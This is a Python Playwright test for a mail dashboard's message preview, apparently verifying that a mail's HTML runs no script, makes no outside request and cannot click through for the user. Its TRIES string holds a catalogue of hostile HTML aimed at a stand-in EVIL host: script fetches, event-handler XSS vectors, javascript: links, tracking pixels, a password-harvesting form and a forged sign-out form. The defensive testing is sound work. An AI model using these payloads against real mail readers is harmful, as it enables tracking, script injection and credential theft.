"""The HTML of a mail in a real browser: nothing of it runs, and nobody learns that somebody looked."""

import asyncio
import contextlib
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import asyncpg
import pytest
from playwright.async_api import Browser, Frame, Page

from browser import looking, serving
from browser.conftest import Copy, signed_in
from mailcordon.core import ids
from mailcordon.send import submission
from mailcordon_fixtures.queue_world import World, accepting, allowed

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(900)]

#: What a mail may try. EVIL is an address that counts who comes; OURS is the dashboard's.
TRIES = """
<html manifest="EVIL/manifest"><head>
<base href="EVIL/base/">
<link rel="stylesheet" href="EVIL/link.css"><link rel="preconnect" href="EVIL"><LINK
 rel=prefetch href="EVIL/prefetch"><link/rel="icon"/href="EVIL/icon">
<meta http-equiv="refresh" content="0;url=EVIL/refresh"><meta http-equiv="Content-Security-Policy" content="img-src *">
<script>top.ran = parent.ran = 1; fetch("EVIL/fetch"); alert(1)</script><script src="EVIL/script.js"></script>
<style>@import url(EVIL/import.css); @font-face { font-family: f; src: url(EVIL/font) }
 body { font-family: f; background: url(EVIL/background); cursor: url(EVIL/cursor), auto }
 #over { position: fixed; inset: 0; z-index: 2147483647; background: #fff0f0 }</style>
</head><body background="EVIL/body" onload="parent.ran = 1">
<img src="EVIL/pixel.gif" width="1" height="1"><img src="x" onerror="top.ran = 1"><img srcset="EVIL/set 2x">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" id="inline" width="20" height="20">
<svg onload="top.ran = 1"><image href="EVIL/svg"/><use href="EVIL/use#x"/><script>top.ran = 1</script>
 <a href="javascript:top.ran=1"><text>x</text></a><animate attributeName="x" onbegin="top.ran = 1"/></svg>
<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>top.ran = 1</script><img src=EVIL/srcdoc>"></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video" poster="EVIL/poster" autoplay></video>
<audio src="EVIL/audio" autoplay></audio><input type="image" src="EVIL/image" autofocus onfocus="top.ran = 1">
<details open ontoggle="top.ran = 1"><summary>x</summary></details>
<form action="EVIL/form" method="get"><input name="password"><button id="submit">Sign in</button></form>
<form action="OURS/sign-out" method="post"><button id="ours">Sign out</button></form>
<a id="plain" href="EVIL/plain" ping="EVIL/ping">a</a> <a id="top" href="EVIL/top" target="_top">b</a>
<a id="blank" href="EVIL/blank" target="_blank">c</a> <a id="own" href="OURS/audit">d</a>
<a id="script" href="javascript:top.ran=1">e</a> <a id="download" href="EVIL/file" download>f</a>
<div id="over">an overlay<p id="end">end</p></div></body></html>
"""
LINKS = ("plain", "top", "blank", "own", "script", "download", "submit", "ours")


class Counted:
    """Somebody who learns of each connection."""

    def __init__(self) -> None:
        self.came: list[str] = []

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.came.append("a connection")
        with contextlib.suppress(ConnectionError):
            self.came.append((await reader.readline()).decode("latin-1"))
            writer.write(b"HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n")
            await writer.drain()
        writer.close()


@pytest.fixture
async def evil() -> AsyncIterator[tuple[Counted, str]]:
    counted = Counted()
    server = await asyncio.start_server(counted.serve, "127.0.0.1", 0)
    yield counted, f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    server.close()


async def frame_of(page: Page) -> Frame:
    element = await page.wait_for_selector("iframe.mail")
    assert element is not None
    frame = await element.content_frame()
    assert frame is not None
    await frame.wait_for_selector("#end", state="attached")
    return frame


async def test_nothing_of_a_mail_runs_and_nothing_is_asked_for(
    chrome: Browser, template: Any, copy_of: Copy, tmp_path: Path, evil: tuple[Counted, str]
) -> None:
    counted, elsewhere = evil
    async with copy_of(template.database) as database:
        owner = await asyncpg.connect(database.dsn("owner"), server_settings={"search_path": "mailcordon"})
        world = World(database, owner)
        await world.lane("acme", "receipt")
        await world.account()
        await world.dispatcher()
        secret, _ = await serving.install(database.owner_dsn)
        async with (
            serving.dashboard(database.role_dsns, secret, tmp_path) as served,
            accepting(world) as accept,
            signed_in(chrome, served.url, served.control) as context,
        ):
            html = TRIES.replace("EVIL", elsewhere).replace("OURS", served.url)
            mail = submission.check(
                type="receipt", sender="hello@receipt.acme.example", to=["kim@example.com"], subject="Your receipt",
                text="Thank you.\n<script>top.ran = 1</script>", html=html, reply_to=[], headers={}, campaign=None, list=None,
            )  # fmt: skip
            accepted: Any = await accept.enqueue("acme", mail, api_key=1, key=None, still_allowed=allowed)
            page = await context.new_page()
            asked: list[str] = []
            context.on("response", lambda response: asked.append(response.url))
            watch = await looking.prepared(page)
            path = f"/messages/{ids.delivery_id(accepted.deliveries[0].id)}/preview"
            await page.goto(path, wait_until="load")
            frame = await frame_of(page)
            inline = await frame.eval_on_selector("#inline", "image => image.naturalWidth")
            assert inline == 1, "pictures in the mail itself are shown"
            over = await frame.eval_on_selector("#over", "one => getComputedStyle(one).position")
            assert over == "fixed", "its own styles apply"
            box = await page.locator("iframe.mail").bounding_box()
            heading = await page.locator("h1").bounding_box()
            assert box is not None
            assert heading is not None
            assert heading["y"] + heading["height"] <= box["y"], "nothing lies over the page itself"
            await looking.look(page, watch, "/messages/preview", axe=False)
            wrong = await looking.violations(page)
            assert not wrong, wrong
            for link in LINKS:
                await frame.eval_on_selector("#over", "one => { one.style.display = 'none' }")
                await frame.locator(f"#{link}").click(timeout=5000, no_wait_after=True)
                assert page.url == served.url + path, link
                frame = await again(page, served.url + path)
            assert await page.evaluate("window.ran") is None
            assert watch.dialogs == []
            assert len(context.pages) == 1
            hosts = {urlsplit(one).netloc for one in asked if not one.startswith("data:")}
            assert hosts == {urlsplit(served.url).netloc}
            paths = {
                urlsplit(one).path for one in asked if "/static/" not in one and not one.startswith("data:")
            }
            assert paths == {path, path + "/html"}, "a link leads to no page of ours either"
        await owner.close()
    assert counted.came == []


async def again(page: Page, url: str) -> Frame:
    """The page as it was: a refused link leaves the browser's own error in the frame."""
    # What a click began is decided before another round trip to the browser's page is over.
    await page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done, 20)))")
    if await page.frames[1].locator("#end").count():
        return page.frames[1]
    await page.goto(url, wait_until="load")
    return await frame_of(page)
